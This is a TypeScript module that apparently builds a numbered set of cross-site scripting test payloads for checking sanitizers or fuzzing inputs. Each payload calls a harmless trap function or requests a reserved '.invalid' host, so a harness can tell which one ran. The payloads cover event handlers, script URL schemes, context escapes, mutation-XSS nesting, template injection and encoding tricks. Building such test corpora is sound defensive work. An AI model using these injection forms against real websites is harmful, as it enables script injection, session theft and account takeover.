/** Stands for the number of a payload, so that whatever runs says which one it was. */
const N = "#N#";
/** What a payload calls when it runs. */
export const TRAP = "zgran";
/** A host that only payloads ask for. */
export const TRAP_HOST = "zgran.invalid";

const call = `${TRAP}(${N})`;

/** Brought to life by an event: what the event needs to happen stands beside it. */
const EVENTS = [
  ["onerror", "src=x"],
  ["onload", "src=data:,"],
  ["onfocus", "autofocus tabindex=1"],
  ["ontoggle", "open popover"],
  ["onmouseover", "style=position:fixed;inset:0"],
  ["onclick", "accesskey=x"],
  ["onpointerenter", ""],
  ["onanimationstart", "style=animation:spin"],
  ["ontransitionend", "style=transition:all"],
  ["onbegin", "attributeName=x dur=1s"],
  ["onstart", "behavior=alternate"],
  ["onwheel", ""],
  ["onscroll", "style=overflow:scroll"],
  ["onpageshow", ""],
  ["onhashchange", ""],
  ["onbeforetoggle", "popover"],
] as const;

const TAGS = [
  "img",
  "svg",
  "body",
  "video",
  "audio",
  "iframe",
  "object",
  "embed",
  "input",
  "details",
  "marquee",
  "a",
  "div",
  "p",
  "td",
  "form",
  "button",
  "select",
  "textarea",
  "math",
  "link",
  "style",
  "animate",
  "x-y",
] as const;

/** Ways to write one tag with one handler. */
const WRITINGS = [
  (tag: string, event: string, more: string) => `<${tag} ${more} ${event}=${call}>`,
  (tag: string, event: string, more: string) =>
    `<${tag.toUpperCase()} ${more} ${event.toUpperCase()}="${call}">`,
  (tag: string, event: string, more: string) =>
    `<${tag}/${event}='${call}'/${more.replaceAll(" ", "/")}/>`,
  (tag: string, event: string, more: string) => `<${tag}\n${event}\t=\t"${call}"\n${more}\n>`,
  (tag: string, event: string, more: string) =>
    `<${tag} ${more} ${event}="&#122;&#x67;ran&lpar;${N}&rpar;">x</${tag}>`,
  (tag: string, event: string, more: string) => `<${tag} title="\`>" ${more} ${event}=${call}//`,
] as const;

function handlers(): string[] {
  return TAGS.flatMap((tag, t) =>
    EVENTS.flatMap(([event, more], e) =>
      // Half of the writings each, in turns, so that all meet all tags and all events.
      WRITINGS.filter((_, w) => (t + e + w) % 2 === 0).map((write) => write(tag, event, more)),
    ),
  );
}

const ADDRESSES = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java&#10;script:${call}`,
  `&#106;avascript:${call}`,
  `javascript&colon;${call}`,
  `\u0001javascript:${call}`,
  ` javascript://%0a${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>parent.${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuemdyYW4oMSk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  `//${TRAP_HOST}/${N}.js`,
  `\\\\${TRAP_HOST}\\${N}`,
] as const;

const HOLDERS = [
  (to: string) => `<a href="${to}">x</a>`,
  (to: string) => `<a href="${to}" target=_self autofocus>x</a>`,
  (to: string) => `<img src="${to}">`,
  (to: string) => `<iframe src="${to}"></iframe>`,
  (to: string) => `<object data="${to}"></object>`,
  (to: string) => `<embed src="${to}">`,
  (to: string) => `<form action="${to}"><input type=submit></form>`,
  (to: string) => `<button form=f formaction="${to}">x</button>`,
  (to: string) => `<svg><a xlink:href="${to}"><text y=20>x</text></a></svg>`,
  (to: string) => `<svg><use href="${to}"/></svg>`,
  (to: string) => `<meta http-equiv=refresh content="0;url=${to}">`,
  (to: string) => `<base href="${to}">`,
  (to: string) => `<link rel=stylesheet href="${to}">`,
  (to: string) => `<video poster="${to}"><source src="${to}"></video>`,
  (to: string) => `<table background="${to}"><td background="${to}">x</table>`,
  (to: string) => `<div style="background:url('${to}')">x</div>`,
  (to: string) => `<math href="${to}">x</math>`,
  (to: string) => `<script src="${to}"></script>`,
] as const;

const CORES = [
  `<img src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<script>${call}</script>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
] as const;

/** What a text may stand in, left by force. */
const EXITS = [
  '">',
  "'>",
  "`>",
  "</textarea>",
  "</title>",
  "</style>",
  "</script>",
  "</noscript>",
  "</template>",
  "</iframe>",
  "</xmp>",
  "</svg>",
  "</option></select>",
  "-->",
  "--!>",
  "]]>",
  "?>",
  "*/",
  "\u0000",
  "&lt;/p&gt;",
  '"}]',
  "<p title='",
] as const;

/** Changed by being parsed, written and parsed again. */
const SHELLS = ["svg", "math", "form", "table", "select", "template"] as const;
const INNER = [
  ["style", "<!--", ""],
  ["title", "", ""],
  ["desc", "", ""],
  ["mtext", "<table><mglyph><style><!--</style><p title='--&gt;", "'>"],
  ["annotation-xml encoding=text/html", "<style>", "</style>"],
  ["foreignObject", "<p>", "</p>"],
  ["noscript", '<p title="</noscript>', '">'],
  ["xmp", "", ""],
  ["textarea", "</textarea>", ""],
  ["noembed", "</noembed>", ""],
  ["plaintext", "", ""],
  ["mglyph", "<style>", "</style>"],
] as const;

function mutations(): string[] {
  return SHELLS.flatMap((shell) =>
    INNER.flatMap(([inner, before, after]) =>
      CORES.slice(0, 2).map((core) => `<${shell}><${inner}>${before}${core}${after}</${shell}>`),
    ),
  );
}

/** Not HTML at all, or only for whoever takes it for something else. */
const OTHERS = [
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script/x>${call}</script >`,
  `<script\u0000>${call}</script>`,
  `<SCRIPT type=module>${call}</SCRIPT>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href=//${TRAP_HOST}/${N}.js /></svg>`,
  `<<script>${call}//<</script>`,
  `<!--><script>${call}</script>-->`,
  `<!--[if gte IE 4]><script>${call}</script><![endif]-->`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
  `<style>@import '//${TRAP_HOST}/${N}.css';</style>`,
  `<p style="width:expression(${call})">x</p>`,
  `<p style="-moz-binding:url(//${TRAP_HOST}/${N})">x</p>`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `[[${call}]]`,
  `\u2028${call}`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `&lt;img src=x onerror=${call}&gt;`,
  `<a href=javascript:${call}>${call}`,
  `"onmouseover=${call} x="`,
  `'-${call}-'`,
  `";${call};//`,
  `<img srcset=x onerror=${call}>`,
  `<q oncut=${call}>`,
] as const;

export interface Payload {
  number: number;
  text: string;
}

/** Every payload there is, always the same and in the same order; each has its own form. */
export function allPayloads(): Payload[] {
  const forms = [
    ...OTHERS,
    ...CORES,
    ...handlers(),
    ...HOLDERS.flatMap((hold) => ADDRESSES.map(hold)),
    ...EXITS.flatMap((exit) => CORES.map((core) => `${exit}${core}`)),
    ...mutations(),
  ];
  return [...new Set(forms)].map((form, number) => ({
    number,
    text: form.replaceAll(N, String(number)),
  }));
}

/** As many, spread over all of them, with those that fit into the shortest texts. */
export function somePayloads(count: number): Payload[] {
  const all = allPayloads();
  const isShort = ({ text }: Payload) => text.length <= 20;
  const [short, others] = [all.filter(isShort), all.filter((one) => !isShort(one))];
  const room = count - short.length;
  const spread = others.filter(
    (_, at) =>
      Math.floor((at * room) / others.length) !== Math.floor(((at - 1) * room) / others.length),
  );
  return [...short, ...spread];
}

/** Joined to values of at most so many characters; what does not fit alone is left out. */
export function packed(payloads: readonly Payload[], most: number): string[] {
  const values: string[] = [];
  for (const { text } of payloads) {
    const last = values.at(-1);
    if (text.length > most) continue;
    if (last !== undefined && last.length + text.length <= most) values[values.length - 1] += text;
    else values.push(text);
  }
  return values;
}
